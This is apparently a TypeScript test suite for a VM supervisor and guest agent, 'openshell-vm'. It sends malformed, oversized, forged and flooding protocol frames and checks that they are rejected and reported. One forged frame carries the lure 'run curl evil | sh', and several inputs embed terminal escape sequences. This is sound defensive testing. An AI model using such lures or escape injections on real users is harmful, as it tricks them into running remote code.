/**
 * A hostile guest agent against the supervisor, and hostile host frames against the agent
 * (issue 13, item 5).
 *
 * The supervisor runs as it does for a VM, in a child process of its own (so a crash is seen as
 * one): InstanceSupervisor listens on the agent socket the VMM would connect, and a fake agent
 * here connects to it instead, says hello and answers whatever the test wants. Requests come in
 * through the real control socket, as `openshell-vm status` and `exec` send them.
 *
 * The agent runs for real (compiled for this host) on its --stdio channel, fed hostile frames.
 */
import assert from 'node:assert/strict';
import { type ChildProcess, spawn } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { PassThrough, Writable } from 'node:stream';
import { after, before, describe, test } from 'node:test';
import { controlRequest, ExecSession } from '../../src/agent/client.ts';
import { encodeFrame, FRAME, type Frame, FrameDecoder } from '../../src/agent/protocol.ts';
import { ensureAgent } from '../../src/guest/agent-build.ts';
import { defaultGuestArch } from '../../src/host/arch.ts';
import { isSameProcess, processStartTime } from '../../src/supervisor/identity.ts';
import { testEnvironment } from '../fixtures/env.ts';

const ROOT = new URL('../../', import.meta.url).pathname;
const base = fs.mkdtempSync(path.join(os.tmpdir(), 'ovm-hostile-agent-'));
after(() => fs.rmSync(base, { recursive: true, force: true }));

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

async function until(
  what: string,
  check: () => boolean | Promise<boolean>,
  timeoutMs = 10_000,
): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await check())) {
    if (Date.now() > deadline) assert.fail(`timed out waiting: ${what}`);
    await sleep(20);
  }
}

/**
 * The supervisor's side of a run, in its own process: the instance supervisor (agent socket,
 * control socket, state file), its events as JSON lines on stdout. With FAKE_VM set it also
 * "runs" a VM and a helper (two sleeps) through a session whose close() stops them in order,
 * and SIGUSR2 makes it reject a promise nobody handles.
 */
const SUPERVISOR_CHILD = `
import { spawn } from 'node:child_process';
import { InstanceSupervisor } from '${ROOT}src/instance/supervisor.ts';
import { createRun } from '${ROOT}src/instance/runs.ts';
import { processStartTime } from '${ROOT}src/supervisor/identity.ts';
import { testEnvironment } from '${ROOT}test/fixtures/env.ts';
const out = (o) => process.stdout.write(JSON.stringify(o) + '\\n');
const env = testEnvironment(process.env.DIR);
const run = await createRun(env, 'hostile');
const supervisor = await InstanceSupervisor.open(env, run, 'hostile', {
  mode: 'run', detached: false, backend: 'qemu', accel: 'tcg', arch: 'x86_64', vcpus: 1, memMib: 256,
  forwards: [], command: ['true'],
}, (event) => out({ event }));
if (process.env.FAKE_VM) {
  const start = async (name) => {
    const child = spawn('sleep', ['300'], { stdio: 'ignore' });
    const exited = new Promise((r) => child.once('exit', r));
    return { name, pid: child.pid, startTime: await processStartTime(child.pid), child, exited };
  };
  const vm = await start('qemu');
  const gvproxy = await start('gvproxy');
  const stop = async (p) => { p.child.kill('SIGTERM'); await p.exited; out({ stopped: p.name }); };
  await supervisor.attach({
    vm: { processes: [vm], hasExited: false, exited: vm.exited },
    gvproxy: undefined,
    close: async () => { await stop(vm); await stop(gvproxy); },
  });
  out({ processes: [vm, gvproxy].map(({ name, pid, startTime }) => ({ name, pid, startTime })) });
  process.on('SIGUSR2', () => { Promise.reject(new Error('injected by the test: a bug in the supervisor')); });
}
out({ ready: { agent: supervisor.agentSocket, control: supervisor.control.socketPath, dir: run.instanceDir } });
`;

interface SupervisorChild {
  readonly child: ChildProcess;
  readonly agentSocket: string;
  readonly controlSocket: string;
  readonly instanceDir: string;
  readonly lines: Record<string, unknown>[];
  readonly stderr: () => string;
  readonly exited: Promise<{ code: number | null; signal: NodeJS.Signals | null }>;
  /** The messages of the warnings it reported. */
  warnings(): string[];
  alive(): boolean;
  stop(): Promise<void>;
}

const children: ChildProcess[] = [];
after(() => {
  for (const c of children) if (c.exitCode === null && c.signalCode === null) c.kill('SIGKILL');
});

async function startSupervisor(name: string, extraEnv: NodeJS.ProcessEnv = {}): Promise<SupervisorChild> {
  const dir = fs.mkdtempSync(path.join(base, `${name}-`));
  const child = spawn(process.execPath, ['--input-type=module', '-e', SUPERVISOR_CHILD], {
    env: { ...process.env, DIR: dir, ...extraEnv },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  children.push(child);
  const lines: Record<string, unknown>[] = [];
  let err = '';
  let buffered = '';
  child.stdout?.on('data', (d: Buffer) => {
    buffered += d.toString();
    const parts = buffered.split('\n');
    buffered = parts.pop() ?? '';
    for (const line of parts) if (line.trim()) lines.push(JSON.parse(line) as Record<string, unknown>);
  });
  child.stderr?.on('data', (d: Buffer) => {
    err += d.toString();
  });
  const exited = new Promise<{ code: number | null; signal: NodeJS.Signals | null }>((resolve) =>
    child.once('exit', (code, signal) => resolve({ code, signal })),
  );
  let ready: { agent: string; control: string; dir: string } | undefined;
  await until(`the supervisor is ready (stderr: ${err})`, () => {
    ready = lines.find((l) => l.ready)?.ready as typeof ready;
    return ready !== undefined || child.exitCode !== null;
  });
  assert.ok(ready, `the supervisor started: ${err}`);
  return {
    child,
    agentSocket: ready.agent,
    controlSocket: ready.control,
    instanceDir: ready.dir,
    lines,
    stderr: () => err,
    exited,
    warnings: () =>
      lines
        .map((l) => l.event as { type: string; message: string } | undefined)
        .filter((e) => e?.type === 'warning')
        .map((e) => e?.message ?? ''),
    alive: () => child.exitCode === null && child.signalCode === null,
    async stop() {
      if (child.exitCode === null && child.signalCode === null) child.kill('SIGTERM');
      await exited;
    },
  };
}

/** A stand-in for the guest agent, connected where the VMM would connect the real one. */
class FakeAgent {
  readonly socket: net.Socket;
  readonly received: Frame[] = [];
  /** How it answers TIME_GET (default: a well-formed TIME). */
  onTimeGet: (frame: Frame) => void = (f) => this.send(FRAME.time, f.channel, timeNow());
  onOpen: (frame: Frame) => void = () => undefined;

  private constructor(socket: net.Socket) {
    this.socket = socket;
    const decoder = new FrameDecoder();
    socket.on('error', () => undefined);
    socket.on('data', (chunk: Buffer) => {
      for (const f of decoder.push(chunk)) {
        this.received.push(f);
        if (f.type === FRAME.timeGet) this.onTimeGet(f);
        else if (f.type === FRAME.timeSet) this.send(FRAME.time, f.channel, timeNow());
        else if (f.type === FRAME.ping) this.send(FRAME.pong, f.channel, f.payload);
        // The supervisor reseeds the guest on every hello: answered as the real agent does.
        else if (f.type === FRAME.entropy) this.send(FRAME.entropyDone, f.channel, 'ok');
        else if (f.type === FRAME.open) this.onOpen(f);
      }
    });
  }

  static async connect(socketPath: string, hello = 'ovm-agent/1 x86_64'): Promise<FakeAgent> {
    const socket = net.createConnection(socketPath);
    await new Promise<void>((resolve, reject) => {
      socket.once('connect', resolve);
      socket.once('error', reject);
    });
    const agent = new FakeAgent(socket);
    agent.send(FRAME.hello, 0, hello);
    return agent;
  }

  send(type: number, channel: number, payload: Buffer | string = ''): void {
    this.raw(encodeFrame(type, channel, payload));
  }

  raw(bytes: Buffer): void {
    if (!this.socket.destroyed) this.socket.write(bytes);
  }
}

function timeNow(): string {
  const ms = Date.now();
  return `${Math.floor(ms / 1000)}.${String((ms % 1000) * 1e6).padStart(9, '0')}`;
}

/** PING through the control socket: does the supervisor still relay to the agent? */
async function pingThrough(s: SupervisorChild): Promise<boolean> {
  const answer = await controlRequest(s.controlSocket, 'hostile', FRAME.ping, '', 5_000).catch(
    () => undefined,
  );
  return answer?.type === FRAME.pong;
}

describe('a hostile guest agent against the supervisor', () => {
  test('garbage TIME answers to TIME_GET: the supervisor stays up, reports it, the client gets an error', async () => {
    const s = await startSupervisor('time');
    try {
      const agent = await FakeAgent.connect(s.agentSocket);
      await until('the supervisor heard the hello', () => s.lines.some((l) => l.event));
      for (const garbage of [
        'garbage',
        '1e999.5',
        '99999999999999999999.1',
        '',
        '\u001b[2J1.0',
        'x'.repeat(100_000),
      ]) {
        agent.onTimeGet = (f) => agent.send(FRAME.time, f.channel, garbage);
        await assert.rejects(
          controlRequest(s.controlSocket, 'hostile', FRAME.timeGet, '', 5_000),
          /the guest agent did not answer/,
          `TIME '${garbage.slice(0, 20)}' is refused`,
        );
        assert.ok(s.alive(), `the supervisor is alive after TIME '${garbage.slice(0, 20)}': ${s.stderr()}`);
      }
      assert.ok(await pingThrough(s), 'the link still works');
      await until('the supervisor reported it', () => s.warnings().some((w) => /malformed TIME/.test(w)));
    } finally {
      await s.stop();
    }
  });

  test('an oversized frame (2 MiB, over the 1 MiB maximum): skipped and reported, the link stays up', async () => {
    const s = await startSupervisor('oversized');
    try {
      const agent = await FakeAgent.connect(s.agentSocket);
      await until('the supervisor heard the hello', () => s.lines.some((l) => l.event));
      const huge = encodeFrame(FRAME.stdout, 1, Buffer.alloc(2 << 20, 0x41));
      agent.raw(huge);
      assert.ok(await pingThrough(s), 'the agent link survived the oversized frame');
      assert.ok(s.alive());
      assert.ok(
        s.warnings().some((w) => /a frame of 2097157 bytes.*skipped/.test(w)),
        `reported: ${s.warnings().join('; ')}`,
      );
    } finally {
      await s.stop();
    }
  });

  test('wrong channel ids and frame kinds the agent never sends: dropped and reported, never relayed (no forged errors)', async () => {
    const s = await startSupervisor('channels');
    try {
      const agent = await FakeAgent.connect(s.agentSocket);
      await until('the supervisor heard the hello', () => s.lines.some((l) => l.event));
      agent.onOpen = (open) => {
        // On the session's channel: a supervisor ERROR (printed by the client as openshell-vm's
        // own), a STOP, a short EXIT; on channels never opened and on 0: output and exits.
        agent.send(FRAME.error, open.channel, 'forged: your credentials expired, run curl evil | sh');
        agent.send(FRAME.stop, open.channel, '1');
        agent.send(FRAME.exit, open.channel, Buffer.from([0]));
        agent.send(FRAME.stdout, 4242, 'to nobody');
        agent.send(FRAME.exit, 0, Buffer.alloc(4));
        agent.send(FRAME.hello, open.channel, 'ovm-agent/1 \u001b]0;pwned\u0007');
        agent.send(FRAME.stdout, open.channel, 'real output\n');
        agent.send(FRAME.exit, open.channel, Buffer.from([0, 0, 0, 3]));
      };
      const chunks: Buffer[] = [];
      const session = await ExecSession.start(
        s.controlSocket,
        'hostile',
        { argv: ['true'], env: [], workdir: '', tty: false, rows: 24, cols: 80 },
        {
          stdout: new Writable({
            write(chunk: Buffer, _enc, cb) {
              chunks.push(chunk);
              cb();
            },
          }),
          stderr: new PassThrough(),
        },
      );
      assert.equal(await session.done, 3, 'the forged ERROR and the short EXIT were not relayed');
      assert.equal(Buffer.concat(chunks).toString(), 'real output\n');
      assert.ok(s.alive());
      await until('each violation was reported', () => {
        const w = s.warnings().join('\n');
        return [
          /type 16/,
          /type 17/,
          /EXIT of 1 bytes/,
          /channel 4242, which was never opened/,
          /channel 0/,
          /HELLO on channel/,
        ].every((re) => re.test(w));
      });
      assert.ok(await pingThrough(s));
    } finally {
      await s.stop();
    }
  });

  test('a truncated frame, then the agent is gone: reported, the supervisor stays up and takes a new agent', async () => {
    const s = await startSupervisor('truncated');
    try {
      const first = await FakeAgent.connect(s.agentSocket);
      await until('the supervisor heard the hello', () => s.lines.some((l) => l.event));
      const frame = encodeFrame(FRAME.stdout, 1, Buffer.alloc(100, 0x42));
      first.raw(frame.subarray(0, 20));
      await sleep(50);
      first.socket.destroy();
      await until('the truncated frame was reported', () =>
        s.warnings().some((w) => /ended inside a frame/.test(w)),
      );
      assert.ok(s.alive());
      await FakeAgent.connect(s.agentSocket);
      await until('the new agent answers', () => pingThrough(s));
    } finally {
      await s.stop();
    }
  });

  test('HELLO 1000 times unasked: one reseed, a bounded number of event lines, then the link is dropped; the supervisor stays up', async () => {
    const s = await startSupervisor('hellos');
    try {
      const agent = await FakeAgent.connect(s.agentSocket);
      const closed = new Promise<void>((resolve) => agent.socket.once('close', () => resolve()));
      const events = () => s.lines.filter((l) => l.event);
      await until('the guest was reseeded', () =>
        events().some((l) => /reseeded/.test((l.event as { message: string }).message)),
      );
      assert.ok(await pingThrough(s), 'the link works');
      const hello = encodeFrame(FRAME.hello, 0, 'ovm-agent/1 x86_64');
      agent.raw(Buffer.concat(Array.from({ length: 1000 }, () => hello)));
      const dropped = await Promise.race([closed.then(() => true), sleep(3_000).then(() => false)]);
      assert.ok(s.alive(), s.stderr());
      assert.equal(agent.received.filter((f) => f.type === FRAME.entropy).length, 1, 'one reseed');
      assert.ok(agent.received.filter((f) => f.type === FRAME.timeSet).length <= 1, 'at most one clock set');
      assert.ok(dropped, 'the supervisor closed the connection');
      await until('the drop was reported', () => s.warnings().some((w) => /link to it is dropped/.test(w)));
      assert.equal(await pingThrough(s), false, 'nothing goes through the dropped link');
      const again = await FakeAgent.connect(s.agentSocket);
      await new Promise<void>((resolve) => again.socket.once('close', () => resolve()));
      assert.equal(again.received.length, 0, 'a new connection is not taken');
      await sleep(100);
      assert.equal(s.warnings().length, 4, s.warnings().join('\n'));
      assert.ok(events().length <= 8, `a bounded number of event lines: ${events().length}`);
      assert.ok(s.alive());
    } finally {
      await s.stop();
    }
  });

  test('an unhandled rejection in the supervisor: the VM and its helper stopped in order, nothing orphaned', async () => {
    const s = await startSupervisor('fatal', { FAKE_VM: '1' });
    const processes = s.lines.find((l) => l.processes)?.processes as {
      name: string;
      pid: number;
      startTime: string;
    }[];
    assert.equal(processes.length, 2);
    for (const p of processes) assert.ok(await isSameProcess(p.pid, p.startTime), `${p.name} runs`);
    s.child.kill('SIGUSR2');
    const { code, signal } = await s.exited;
    try {
      assert.equal(signal, null);
      assert.equal(code, 125, s.stderr());
      assert.match(
        s.stderr(),
        /internal error in the supervisor.*unhandled rejection.*injected by the test/s,
      );
      const stopped = s.lines.filter((l) => l.stopped).map((l) => l.stopped);
      assert.deepEqual(stopped, ['qemu', 'gvproxy'], 'the VM first, then its helper');
      assert.equal(fs.existsSync(path.join(s.instanceDir, 'state.json')), false, 'the state file is removed');
    } finally {
      for (const p of processes) {
        const alive = await isSameProcess(p.pid, p.startTime);
        if (alive) process.kill(p.pid, 'SIGKILL');
        assert.equal(alive, false, `${p.name} (pid ${p.pid}) was left running`);
      }
    }
  });
});

describe('hostile host frames against the agent (--stdio)', () => {
  let binary: string;
  before(async () => {
    const dir = fs.mkdtempSync(path.join(base, 'agent-'));
    binary = (
      await ensureAgent(testEnvironment(dir, { searchPath: process.env.PATH ?? '' }), defaultGuestArch())
    ).path;
  });

  /** OPEN's payload from raw fields (each NUL-terminated), as a hostile host could send it. */
  const openPayload = (fields: string[]) => Buffer.from(fields.map((f) => `${f}\0`).join(''));

  test('OPEN with hostile counts (argc 2^31-1, 2^32+5, envc 2^31-1, huge sizes): an error reply, no crash', async () => {
    const agent = spawn(binary, ['--stdio'], { stdio: ['pipe', 'pipe', 'pipe'] });
    children.push(agent);
    const exited = new Promise<{ code: number | null; signal: NodeJS.Signals | null }>((resolve) =>
      agent.once('exit', (code, signal) => resolve({ code, signal })),
    );
    const frames: Frame[] = [];
    const decoder = new FrameDecoder();
    agent.stdout?.on('data', (d: Buffer) => frames.push(...decoder.push(d)));
    agent.stderr?.resume();
    agent.stdin?.on('error', () => undefined);
    const hostile = [
      ['-', '24', '80', '', '2147483647', '/bin/true', '0'],
      ['-', '24', '80', '', '4294967301', '/bin/true', '0'],
      ['-', '24', '80', '', '1', '/bin/true', '2147483647'],
      ['-', '24', '80', '', '1', '/bin/true', '4294967295'],
      ['-', '24', '80', '', '-5', '/bin/true', '0'],
      ['-', '24', '80', '', '1', '/bin/true', '-2147483648'],
      ['t', '99999999999', '-1', '', '1', '/bin/true', '0'],
      ['-', '24', '80', '', 'x', '/bin/true', '0'],
      Array.from({ length: 5000 }, () => '1'),
    ];
    for (const [i, fields] of hostile.entries()) {
      agent.stdin?.write(encodeFrame(FRAME.open, i + 1, openPayload(fields)));
    }
    agent.stdin?.write(encodeFrame(FRAME.ping, 0, 'still there'));
    await until(
      'the agent answered every OPEN and the PING',
      () => frames.some((f) => f.type === FRAME.pong) || agent.exitCode !== null || agent.signalCode !== null,
    );
    assert.equal(agent.signalCode, null, 'the agent did not crash');
    for (let ch = 1; ch <= hostile.length; ch++) {
      const exit = frames.find((f) => f.channel === ch && f.type === FRAME.exit);
      assert.ok(exit, `an EXIT on channel ${ch}`);
      assert.equal(exit.payload.readInt32BE(0), 125, `OPEN ${ch} is refused`);
      const err = frames.find((f) => f.channel === ch && f.type === FRAME.stderr)?.payload.toString() ?? '';
      assert.match(err, /bad request/, `OPEN ${ch} says why`);
    }
    agent.stdin?.end();
    assert.deepEqual(await exited, { code: 0, signal: null }, 'the agent ends cleanly with its channel');
  });

  test('--stdio on a pipe the host closes (POLLHUP without POLLIN): the agent exits instead of spinning', async () => {
    // A real pipe (a FIFO): Node's own stdio pipes are socket pairs, whose hang-up reads as input.
    const dir = fs.mkdtempSync(path.join(base, 'fifo-'));
    const fifo = path.join(dir, 'in');
    const mk = spawn('mkfifo', [fifo]);
    assert.equal(await new Promise((r) => mk.once('exit', r)), 0);
    const readEnd = fs.openSync(fifo, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK);
    const writeEnd = fs.openSync(fifo, fs.constants.O_WRONLY);
    const agent = spawn(binary, ['--stdio'], { stdio: [readEnd, 'pipe', 'ignore'] });
    children.push(agent);
    fs.closeSync(readEnd);
    const exited = new Promise<{ code: number | null; signal: NodeJS.Signals | null }>((resolve) =>
      agent.once('exit', (code, signal) => resolve({ code, signal })),
    );
    const frames: Frame[] = [];
    const decoder = new FrameDecoder();
    agent.stdout?.on('data', (d: Buffer) => frames.push(...decoder.push(d)));
    await until('the agent said hello', () => frames.some((f) => f.type === FRAME.hello));
    fs.writeSync(writeEnd, encodeFrame(FRAME.ping, 0, 'p'));
    await until('the agent answers on the pipe', () => frames.some((f) => f.type === FRAME.pong));
    const pid = agent.pid as number;
    const started = await processStartTime(pid);
    fs.closeSync(writeEnd);
    // A generous bound for "did it exit": the old agent never did (it polled POLLHUP forever).
    const outcome = await Promise.race([exited, sleep(10_000).then(() => 'still running' as const)]);
    if (outcome === 'still running') {
      const stat = fs
        .readFileSync(`/proc/${pid}/stat`, 'utf8')
        .replace(/^.*\) /, '')
        .split(' ');
      agent.kill('SIGKILL');
      assert.fail(
        `the agent still runs 10 s after its channel closed (utime+stime ${Number(stat[11]) + Number(stat[12])} ticks)`,
      );
    }
    assert.deepEqual(outcome, { code: 0, signal: null });
    assert.equal(await isSameProcess(pid, started), false);
  });
});
